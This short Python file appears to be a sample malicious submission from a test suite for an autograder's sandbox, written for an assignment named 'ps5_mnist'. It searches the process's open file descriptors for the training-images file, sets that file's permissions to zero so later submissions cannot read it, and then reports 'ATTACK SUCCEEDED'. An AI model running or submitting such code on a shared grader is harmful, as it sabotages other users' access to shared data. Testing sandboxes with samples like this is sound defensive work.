"""Goal: keep all later submissions from opening the training images, by taking their permissions away.

Assignment: ps5_mnist
Without a sandbox: unsafe
"""

import os


def close_for_all():
    stopped = FileNotFoundError(2, "no training images")
    for name in os.listdir("/proc/self/fd"):
        try:
            if "training-images" in os.readlink(f"/proc/self/fd/{name}"):
                os.fchmod(int(name), 0)  # whose file it is, may do so
                return
        except OSError as error:
            if "training-images" in os.readlink(f"/proc/self/fd/{name}"):
                stopped = error
    raise RuntimeError(f"stopped by: {stopped!r}")


close_for_all()
raise RuntimeError("ATTACK SUCCEEDED: nobody can open the training images any more")
